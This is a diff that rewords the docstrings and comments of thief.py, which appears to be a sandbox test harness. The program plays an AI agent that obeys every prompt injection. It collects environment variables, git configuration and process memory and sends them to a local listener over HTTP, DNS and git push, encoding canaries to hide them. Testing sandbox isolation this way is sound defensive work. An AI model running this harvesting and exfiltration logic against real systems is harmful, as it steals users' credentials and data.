@@ -1,7 +1,8 @@
-"""A program that an agent runs which obeys every injection: it takes what it finds, and carries it off.
+"""A program that plays an agent which obeys every prompt injection: it collects data and sends them away.
 
-`python3 thief.py TAP_PORT DISGUISED…`, with `processes_probe.py` beside it. Writes a line for each place
-where it found one of them. What it took goes to the tap in several encodings, by HTTP, by DNS and by git.
+`python3 thief.py TAP_PORT DISGUISED…`, with `processes_probe.py` in the same folder. It prints a line for
+each place where it found one of the secrets. It sends the collected data to the listener of tap.py, in
+several encodings, over HTTP, DNS and git.
 """
 
 import base64
@@ -26,7 +27,7 @@ _DISGUISE = 0x55
 
 
 def disguised(canary: str) -> str:
-    """As it may stand on a command line without being there."""
+    """Returns an encoded form of the canary, so that the command line does not contain the canary itself."""
     return bytes(byte ^ _DISGUISE for byte in canary.encode()).hex()
 
 
@@ -61,7 +62,7 @@ def _everything() -> Iterator[tuple[str, bytes]]:
     yield "the environment", "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()
     git = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True, check=False)
     yield "git's configuration", git.stdout
-    # It lies beside this file, where this runs.
+    # The module is in the folder of this file in the sandbox.
     from processes_probe import files_of, memory_of  # type: ignore[import-not-found]
 
     libc = ctypes.CDLL(None, use_errno=True)
@@ -94,7 +95,7 @@ def _post(port: int, name: str, body: bytes) -> None:
         connection.request("POST", f"/{name}", body)
         connection.getresponse().read()
     except OSError:
-        return  # walls
+        return  # the sandbox allows no connection
     finally:
         connection.close()
 
@@ -108,7 +109,7 @@ def _ask_names(port: int, loot: bytes) -> None:
 
 
 def _push(port: int) -> None:
-    """To where a name and a password are asked for, which a helper might give."""
+    """Pushes to a server that asks for a name and a password: a credential helper of git might send them."""
     url = f"http://127.0.0.1:{port}/stolen.git"
     subprocess.run(
         ["git", "push", url, "HEAD:refs/heads/stolen"],
